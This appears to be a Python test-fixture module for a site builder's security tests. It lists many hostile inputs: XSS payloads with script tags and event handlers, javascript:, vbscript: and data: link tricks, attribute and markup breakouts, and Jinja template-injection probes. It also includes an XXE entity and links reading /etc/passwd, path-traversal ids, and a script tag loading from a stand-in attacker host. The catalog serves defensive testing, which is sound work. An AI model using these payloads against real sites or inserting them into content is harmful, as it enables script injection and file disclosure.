"""A catalog of hostile content: XSS, URL-scheme tricks, markup breakouts, template injection.

Every payload that manages to run script calls `__pwned()` (or `alert`), so a browser test
can detect it with a canary; payloads that would only show up as markup are caught by the
parsing checks in tests/test_security.py.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY = "__pwned"
"""The function every script payload calls; defined by the browser test as a trap."""

EVALUATED = ("1338337", "7777777", "SiteConfig(", "TemplateReference", "<built-in", "<class '")
"""Text that appears only if a Jinja-looking payload was evaluated, never in a safe build."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile string and where it can be put."""

    name: str
    """Short label for test ids and failure messages."""
    text: str
    """The payload itself."""
    inline: bool = True
    """True when it is one line, so it fits a heading, a YAML value or a link title."""


def _p(name: str, text: str) -> Payload:
    return Payload(name, text, inline="\n" not in text)


PAYLOADS: tuple[Payload, ...] = (
    # -- raw HTML: script and event handlers -----------------------------------------------
    _p("script", "<script>__pwned()</script>"),
    _p("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    _p("script-mixed-case", "<ScRiPt>__pwned()</sCrIpT>"),
    _p("img-onerror", "<img src=x onerror=__pwned()>"),
    _p("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    _p("svg-onload", "<svg onload=__pwned()>"),
    _p("svg-script", "<svg><script>__pwned()</script></svg>"),
    _p("svg-animate", "<svg><animate onbegin=__pwned() attributeName=x dur=1s>"),
    _p("body-onload", "<body onload=__pwned()>"),
    _p("iframe-js", '<iframe src="javascript:__pwned()"></iframe>'),
    _p("iframe-srcdoc", '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>'),
    _p("style-tag", "<style>*{background:url(javascript:__pwned())}</style>"),
    _p("style-attr", '<p style="background:url(javascript:__pwned())">x</p>'),
    _p("form-action", '<form action="javascript:__pwned()"><button>go</button></form>'),
    _p("button-formaction", '<button formaction="javascript:__pwned()">x</button>'),
    _p("input-autofocus", "<input autofocus onfocus=__pwned()>"),
    _p("details-ontoggle", "<details open ontoggle=__pwned()>"),
    _p("a-javascript", '<a href="javascript:__pwned()">click</a>'),
    _p("a-mixed-case", '<a href="jAvAsCrIpT:__pwned()">click</a>'),
    _p("a-entity", '<a href="&#106;avascript:__pwned()">click</a>'),
    _p("a-onclick", "<a href=# onclick=__pwned()>click</a>"),
    _p("object", '<object data="javascript:__pwned()"></object>'),
    _p("embed", '<embed src="javascript:__pwned()">'),
    _p("base", '<base href="javascript:__pwned()//">'),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:__pwned()">'),
    _p("link-import", "<link rel=stylesheet href=javascript:__pwned()>"),
    _p("video-source", "<video><source onerror=__pwned()></video>"),
    _p("marquee", "<marquee onstart=__pwned()>x</marquee>"),
    _p("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>"),
    _p("comment-hidden", "<!--<script>__pwned()</script>-->"),
    _p("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=__pwned()>">'),
    # -- attribute and context breakouts ---------------------------------------------------
    _p("attr-double", '" onmouseover="__pwned()" x="'),
    _p("attr-single", "' onmouseover='__pwned()' x='"),
    _p("attr-unquoted", "x onmouseover=__pwned() autofocus onfocus=__pwned()"),
    _p("tag-breakout", '"><script>__pwned()</script>'),
    _p("script-breakout", "</script><script>__pwned()</script>"),
    _p("title-breakout", "</title><script>__pwned()</script>"),
    _p("textarea-breakout", "</textarea><script>__pwned()</script>"),
    _p("cdata", "<![CDATA[<script>__pwned()</script>]]>"),
    _p("cdata-end", "]]><script>__pwned()</script>"),
    _p("xml-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    _p("json-breakout", '"}]</script><script>__pwned()</script>{"a":"'),
    _p("js-string", "';__pwned();//"),
    _p("entities-escaped", "&lt;script&gt;__pwned()&lt;/script&gt;"),
    _p("entities-hex", "&#x3C;script&#x3E;__pwned()&#x3C;/script&#x3E;"),
    _p("unicode-escape", "\\u003cscript\\u003e__pwned()\\u003c/script\\u003e"),
    _p("percent-encoded", "%3Cscript%3E__pwned()%3C/script%3E"),
    # -- template injection ----------------------------------------------------------------
    _p("jinja-math", "{{ 7*7 }}"),
    _p("jinja-big", "{{ 1337*1001 }}"),
    _p("jinja-string", "{{ 7*'7' }}"),
    _p("jinja-config", "{{ config }}"),
    _p("jinja-site", "{{ site }}"),
    _p("jinja-self", "{{ self }}"),
    _p("jinja-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    _p("jinja-raw", "{% raw %}{{ 7*7 }}{% endraw %}"),
    _p("jinja-for", "{% for x in range(3) %}X{% endfor %}"),
    _p("jinja-comment", "{# hidden #}visible"),
    _p("js-template", "${7*7} #{7*7} <%= 7*7 %>"),
    # -- Markdown links and images with bad schemes ----------------------------------------
    _p("md-javascript", "[click](javascript:__pwned())"),
    _p("md-mixed-case", "[click](jAvAsCrIpT:__pwned())"),
    _p("md-entity", "[click](&#106;avascript:__pwned())"),
    _p("md-entity-colon", "[click](javascript&colon;__pwned())"),
    _p("md-entity-tab", "[click](java&#9;script:__pwned())"),
    _p("md-tab", "[click](<java\tscript:__pwned()>)"),
    _p("md-newline-entity", "[click](java&#10;script:__pwned())"),
    _p("md-leading-space", "[click](<  javascript:__pwned()>)"),
    _p("md-vbscript", "[click](vbscript:msgbox(1))"),
    _p("md-data-html", "[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=)"),
    _p("md-file", "[click](file:///etc/passwd)"),
    _p("md-angle", "[click](<javascript:__pwned()>)"),
    _p("md-title-breakout", '[click](https://example.org/ "a\\" onmouseover=\\"__pwned()")'),
    _p("md-href-quote", '[click](https://example.org/"onmouseover="__pwned())'),
    _p("md-image-js", "![x](javascript:__pwned())"),
    _p("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgpPg==)"),
    _p("md-image-alt", '![x" onerror="__pwned()](https://example.org/a.png)'),
    _p("md-image-src-quote", '![x](x" onerror="__pwned())'),
    # Relative-looking: site-rooted like `/images/x.png`, which a build points under
    # the base path; what is left after `/`, `./` or `../` must not be read as a scheme.
    _p("md-rooted-javascript", "[click](/javascript:__pwned())"),
    _p("md-dot-javascript", "[click](./javascript:__pwned())"),
    _p("md-dotdot-vbscript", "[click](../vbscript:msgbox(1))"),
    _p("md-dot-slash-slash", "[click](.//javascript:__pwned())"),
    _p("md-rooted-data", "[click](/data:text/html,<script>__pwned()</script>)"),
    _p("md-image-rooted-js", "![x](/javascript:__pwned())"),
    _p("reference-rooted-js", "[click][r]\n\n[r]: /javascript:__pwned()"),
    _p("autolink-javascript", "<javascript:__pwned()>"),
    _p("autolink-vbscript", "<vbscript:msgbox(1)>"),
    _p("autolink-data", "<data:text/html,<script>__pwned()</script>>"),
    _p("autolink-http-breakout", '<https://example.org/"><script>__pwned()</script>>'),
    _p("reference-js", "[click][evil]\n\n[evil]: javascript:__pwned()"),
    _p("reference-data", "[click][x]\n\n[x]: <data:text/html,<script>__pwned()</script>>"),
    _p("reference-image", "![x][img]\n\n[img]: javascript:__pwned()"),
    _p("code-span", "`<script>__pwned()</script>`"),
    _p("fenced-code", "```html\n<script>__pwned()</script>\n```"),
    _p("html-block", "<div>\n<script>__pwned()</script>\n</div>"),
    _p("bare-scheme", "javascript:__pwned()"),
    # -- Unicode and control characters ----------------------------------------------------
    _p("control-chars", "a\x01b\x0bc\x1fd\x7fe"),
    _p("bidi-override", "\u202egnp.exe\u202c <script>__pwned()</script>"),
    _p("zero-width", "java\u200bscript:__pwned() \ufeff\u2028\u2029"),
    _p("korean", "강화학습<script>__pwned()</script>모델과 '\"><img src=x onerror=__pwned()>"),
)
"""Text payloads for every field (titles, sources, tags, commentary, headings, ...)."""

BAD_URLS: tuple[str, ...] = (
    "javascript:__pwned()",
    "JaVaScRiPt:__pwned()",
    " javascript:__pwned()",
    "java\tscript:__pwned()",
    "&#106;avascript:__pwned()",
    "javascript&colon;__pwned()",
    "vbscript:msgbox(1)",
    "data:text/html,<script>__pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "mailto:x@example.org",
    "//evil.example/x",
    "/relative/path",
    "https:/example.org",
    "https://",
    "http://exa mple.org/",
    "<script>__pwned()</script>",
    "\x01javascript:__pwned()",
)
"""Values of a link's `url` that must each be a content error (absolute http(s) only)."""

HOSTILE_HTTP_URLS: tuple[str, ...] = (
    'https://example.org/"><script>__pwned()</script>',
    "https://example.org/?q='onmouseover='__pwned()'",
    'https://example.org/"onmouseover="__pwned()"',
    "https://example.org/#{{7*7}}",
    "https://example.org/</script><script>__pwned()</script>",
    "https://example.org/]]><x>",
    "HTTPS://EXAMPLE.ORG/UPPER",
)
"""Valid http(s) link URLs that still try to break out of an attribute or a feed."""

BAD_IDS: tuple[str, ...] = (
    '"><script>__pwned()</script>',
    "x onmouseover=__pwned()",
    "javascript:__pwned()",
    "{{ 7*7 }}",
    "../../etc",
    "Upper-Case",
    "with space",
    "",
)
"""Explicit link ids that are not slugs: each must be refused."""

HOSTILE_FILE_STEMS: tuple[str, ...] = (
    '"><svg onload=__pwned()>',
    "' onmouseover='__pwned()' x='",
    "{{ 7*7 }}",
    "<img src=x onerror=__pwned()>",
)
"""Issue file names (the issue slug is the file stem) that try to break out of URLs."""
